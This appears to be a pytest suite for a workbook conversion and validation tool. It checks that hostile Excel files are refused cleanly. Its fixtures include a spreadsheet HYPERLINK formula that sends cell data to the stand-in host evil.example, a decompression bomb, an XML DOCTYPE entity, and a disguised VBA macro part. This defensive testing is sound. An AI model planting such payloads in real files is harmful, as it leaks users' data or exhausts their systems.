"""Hostile workbooks (issue 24, finding 9): each is refused with a one-line problem and no
traceback, within bounded memory, and text written by `convert` never becomes a formula."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.pack.test_workbook import EXAMPLE, small

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _zip(path: Path, parts: dict[str, bytes]) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    path.write_bytes(buffer.getvalue())
    return path


def _parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


@pytest.fixture
def good_book(tmp_path: Path) -> Path:
    return small(
        tmp_path,
        [["share_name", "name_prefix", "source_asset"], ["sales", "orders_sync", "main.sales.orders"]],
    )


def _validate(cli: Any, path: Path) -> Any:
    result = cli("validate", str(path))
    assert "Traceback" not in result.output
    return result


def test_convert_writes_text_that_looks_like_a_formula_as_text_and_reads_it_back(
    cli: Any, tmp_path: Path
) -> None:
    pack = tmp_path / "pack.yaml"
    text = EXAMPLE.read_text().replace("comment: ", f"comment: '{HYPERLINK}' #", 1)
    pack.write_text(text)
    book = tmp_path / "pack.xlsx"
    assert cli("convert", str(pack), "--out", str(book)).code == 0
    sheets = b"".join(data for name, data in _parts_of(book).items() if name.startswith("xl/"))
    assert b"<f>" not in sheets and b"<f " not in sheets  # no formula anywhere
    back = tmp_path / "back.yaml"
    assert cli("convert", str(book), "--out", str(back)).code == 0
    assert HYPERLINK in back.read_text()


def test_a_link_to_a_device_is_refused_without_reading_it(cli: Any, tmp_path: Path) -> None:
    link = tmp_path / "zero.xlsx"
    link.symlink_to("/dev/zero")
    result = _validate(cli, link)
    assert result.code != 0 and "is not a regular file" in result.output


def test_a_small_workbook_whose_styles_unpack_to_95_mb_is_refused_before_parsing(
    cli: Any, good_book: Path, tmp_path: Path
) -> None:
    parts = _parts_of(good_book)
    parts["xl/styles.xml"] = b"<styleSheet>" + b" " * (95 * 1024 * 1024) + b"</styleSheet>"
    bomb = _zip(tmp_path / "bomb.xlsx", parts)
    assert bomb.stat().st_size < 1024 * 1024
    result = _validate(cli, bomb)
    assert result.code != 0 and "xl/styles.xml unpacks to more than" in result.output


@pytest.mark.parametrize(
    ("damage", "said"),
    [
        ("corrupt", "not a readable Excel workbook"),
        ("no_workbook_xml", "no xl/workbook.xml"),
        ("doctype", "declares a DOCTYPE"),
    ],
)
def test_a_damaged_workbook_is_one_clean_problem(
    damage: str, said: str, cli: Any, good_book: Path, tmp_path: Path
) -> None:
    parts = _parts_of(good_book)
    path = tmp_path / f"{damage}.xlsx"
    if damage == "corrupt":
        data = good_book.read_bytes()
        path.write_bytes(data[: len(data) // 2] + b"\0" * 100 + data[len(data) // 2 + 100 :])
    elif damage == "no_workbook_xml":
        del parts["xl/workbook.xml"]
        _zip(path, parts)
    else:
        entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'
        parts["xl/sharedStrings.xml"] = entity + b"<sst>&a;</sst>"
        _zip(path, parts)
    result = _validate(cli, path)
    assert result.code != 0 and said in result.output, result.output


def test_a_vba_project_under_another_name_is_found_by_its_content_type(
    cli: Any, good_book: Path, tmp_path: Path
) -> None:
    parts = _parts_of(good_book)
    parts["xl/innocent.dat"] = b"\xd0\xcf\x11\xe0 macro bytes"
    types = parts["[Content_Types].xml"].decode()
    override = '<Override PartName="/xl/innocent.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
    parts["[Content_Types].xml"] = types.replace("</Types>", override + "</Types>").encode()
    result = _validate(cli, _zip(tmp_path / "sneaky.xlsx", parts))
    assert result.code != 0 and "holds macros" in result.output


def test_a_huge_cell_is_not_echoed_whole_in_its_problem(cli: Any, tmp_path: Path) -> None:
    path = small(
        tmp_path, [["share_name", "name_prefix", "source_asset"], ["sales", "x" * 1_000_000, "main.s.t"]]
    )
    result = _validate(cli, path)
    assert result.code != 0
    assert "pipelines!B2" in result.output and len(result.output) < 5_000


def test_a_long_value_is_shortened_in_the_problem_that_quotes_it(cli: Any, tmp_path: Path) -> None:
    path = small(
        tmp_path, [["share_name", "name_prefix", "source_asset"], ["sales", "a'b" + "x" * 5000, "main.s.t"]]
    )
    result = _validate(cli, path)
    assert result.code != 0 and len(result.output) < 2_000, result.output
